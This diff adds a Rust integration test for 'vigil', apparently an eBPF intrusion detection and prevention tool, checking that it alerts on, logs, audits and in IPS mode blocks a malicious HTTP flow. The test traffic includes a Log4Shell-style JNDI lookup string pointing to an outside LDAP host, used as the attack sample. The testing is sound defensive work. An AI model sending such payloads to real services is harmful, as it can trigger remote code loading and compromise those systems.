@@ -1,0 +1,276 @@
+//! `vigil run` end to end in the lab: the real eBPF program on the server's
+//! veth, the shipped rules, EVE file and audit store, then `vigil audit`.
+
+mod support;
+
+use std::{
+    io::{BufRead, BufReader},
+    path::Path,
+    process::{Child, Stdio},
+    thread,
+    time::Duration,
+};
+
+use serde_json::Value;
+use support::{LabGuard, assert_no_vigil_programs, serial, support_dir, vigil_bin};
+use vigil::lab::Side;
+
+fn rules_dir() -> String {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../rules")
+        .display()
+        .to_string()
+}
+
+/// `vigil run`, killed if the test fails before stopping it.
+struct RunGuard(Option<Child>);
+
+impl Drop for RunGuard {
+    fn drop(&mut self) {
+        if let Some(mut c) = self.0.take() {
+            let _ = c.kill();
+            let _ = c.wait();
+        }
+    }
+}
+
+/// Starts `vigil run` on the server side and waits until it is capturing.
+fn start_run(lab: &LabGuard, dir: &Path, extra: &[&str]) -> RunGuard {
+    let bin = vigil_bin();
+    let eve = dir.join("eve.json");
+    let audit = dir.join("audit.db");
+    let rules = rules_dir();
+    let mut argv = vec![
+        bin.to_str().unwrap(),
+        "run",
+        "--iface",
+        "veth-srv",
+        "--rules",
+        &rules,
+        "--eve",
+        eve.to_str().unwrap(),
+        "--audit",
+        audit.to_str().unwrap(),
+        "--http-log",
+    ];
+    argv.extend_from_slice(extra);
+    let mut child = lab
+        .lab
+        .command(Side::Server, &argv)
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("spawn vigil run");
+    let stderr = child.stderr.take().unwrap();
+    let (tx, rx) = std::sync::mpsc::channel();
+    thread::spawn(move || {
+        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
+            let _ = tx.send(line);
+        }
+    });
+    loop {
+        let line = rx
+            .recv_timeout(Duration::from_secs(60))
+            .expect("vigil run did not start");
+        if line.contains("vigil: running on") {
+            break;
+        }
+    }
+    RunGuard(Some(child))
+}
+
+fn stop(mut guard: RunGuard) {
+    let mut child = guard.0.take().unwrap();
+    // SAFETY: kill(2) on our child.
+    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
+    let status = child.wait().unwrap();
+    assert!(status.success(), "vigil run exited with {status}");
+}
+
+fn eve_records(dir: &Path) -> Vec<Value> {
+    std::fs::read_to_string(dir.join("eve.json"))
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+fn audit(dir: &Path, args: &[&str]) -> (bool, String) {
+    let db = dir.join("audit.db");
+    let out = std::process::Command::new(vigil_bin())
+        .arg("audit")
+        .args(args)
+        .args(["--db", db.to_str().unwrap()])
+        .output()
+        .unwrap();
+    (
+        out.status.success(),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+    )
+}
+
+fn start_server(lab: &LabGuard, log: &Path) -> support::KillOnDrop {
+    let script = support_dir().join("record_server.py");
+    let server = lab.spawn(
+        Side::Server,
+        &[
+            "python3",
+            script.to_str().unwrap(),
+            "8080",
+            log.to_str().unwrap(),
+            "http",
+        ],
+    );
+    for _ in 0..100 {
+        if lab.exec(Side::Server, &["ss", "-Htln"]).contains(":8080") {
+            return server;
+        }
+        thread::sleep(Duration::from_millis(50));
+    }
+    panic!("server did not start");
+}
+
+/// Requests over one keep-alive connection, 300 ms apart; returns
+/// "ok"/"timeout" per request. The pause is what a flow verdict needs: it
+/// is set when user space has matched the request (within milliseconds),
+/// so only requests sent after that are dropped in the kernel.
+fn keepalive(lab: &LabGuard, src_port: &str, values: &[&str]) -> Vec<String> {
+    let script = support_dir().join("http_client.py");
+    let mut argv = vec![
+        "python3",
+        script.to_str().unwrap(),
+        "10.77.0.2",
+        "8080",
+        src_port,
+        "2",
+    ];
+    argv.extend_from_slice(values);
+    let out = lab
+        .lab
+        .command(Side::Client, &argv)
+        .env("HTTP_CLIENT_PAUSE", "0.3")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(str::to_string)
+        .collect()
+}
+
+#[test]
+fn ids_mode_alerts_logs_and_audits() {
+    let _serial = serial();
+    let lab = LabGuard::up("vt-run-ids");
+    let dir = tempfile::tempdir().unwrap();
+    let _server = start_server(&lab, &dir.path().join("server.log"));
+    let run = start_run(&lab, dir.path(), &[]);
+    let replies = keepalive(
+        &lab,
+        "45001",
+        &["hello", "${jndi:ldap://198.51.100.7/a}", "again"],
+    );
+    assert_eq!(replies, ["ok", "ok", "ok"], "IDS mode never blocks");
+    thread::sleep(Duration::from_millis(500));
+    stop(run);
+
+    let records = eve_records(dir.path());
+    let alerts: Vec<&Value> = records
+        .iter()
+        .filter(|r| r["event_type"] == "alert")
+        .collect();
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    let a = alerts[0];
+    assert_eq!(a["alert"]["signature_id"], 9000001);
+    assert_eq!(a["alert"]["action"], "allowed");
+    assert_eq!(a["src_ip"], "10.77.0.1");
+    assert_eq!(a["src_port"], 45001);
+    assert_eq!(a["in_iface"], "veth-srv");
+    assert_eq!(
+        a["alert"]["category"],
+        "Attempted Administrator Privilege Gain"
+    );
+    let http: Vec<&Value> = records
+        .iter()
+        .filter(|r| r["event_type"] == "http")
+        .collect();
+    assert_eq!(http.len(), 3, "one header-log record per request");
+
+    let (ok, out) = audit(
+        dir.path(),
+        &["query", "--sid", "9000001", "--format", "json"],
+    );
+    assert!(ok);
+    assert_eq!(out.lines().count(), 1, "{out}");
+    let (ok, out) = audit(dir.path(), &["verify"]);
+    assert!(ok, "{out}");
+    drop(lab);
+    assert_no_vigil_programs();
+}
+
+/// IPS mode: a drop rule's match puts its flow into the kernel verdict map,
+/// so the rest of that connection is dropped at TC, while other connections
+/// still work; the alert says "blocked" and the audit store can list it.
+#[test]
+fn ips_mode_blocks_the_rest_of_the_flow() {
+    let _serial = serial();
+    let lab = LabGuard::up("vt-run-ips");
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("server.log");
+    let _server = start_server(&lab, &log);
+    let run = start_run(&lab, dir.path(), &["--ips"]);
+    let replies = keepalive(
+        &lab,
+        "45002",
+        &["hello", "${jndi:ldap://198.51.100.7/a}", "after-the-attack"],
+    );
+    assert_eq!(replies[0], "ok");
+    assert_eq!(
+        replies.last().unwrap(),
+        "timeout",
+        "the flow is blocked after the attack: {replies:?}"
+    );
+    let other = keepalive(&lab, "45003", &["another-connection"]);
+    assert_eq!(other, ["ok"], "other flows are untouched");
+    thread::sleep(Duration::from_millis(300));
+    stop(run);
+
+    let received = std::fs::read_to_string(&log).unwrap();
+    assert!(
+        !received.contains("after-the-attack"),
+        "the server got data after the verdict:\n{received}"
+    );
+    assert!(received.contains("another-connection"));
+    let records = eve_records(dir.path());
+    let blocked: Vec<&Value> = records
+        .iter()
+        .filter(|r| r["event_type"] == "alert" && r["alert"]["action"] == "blocked")
+        .collect();
+    assert!(!blocked.is_empty(), "{records:#?}");
+    assert!(
+        blocked
+            .iter()
+            .all(|a| a["alert"]["signature_id"] == 9000001)
+    );
+    let (ok, out) = audit(
+        dir.path(),
+        &[
+            "query",
+            "--action",
+            "blocked",
+            "--src",
+            "10.77.0.0/24",
+            "--format",
+            "csv",
+        ],
+    );
+    assert!(ok && out.contains("9000001"), "{out}");
+    let (ok, _) = audit(dir.path(), &["verify"]);
+    assert!(ok);
+    drop(lab);
+    assert_no_vigil_programs();
+}
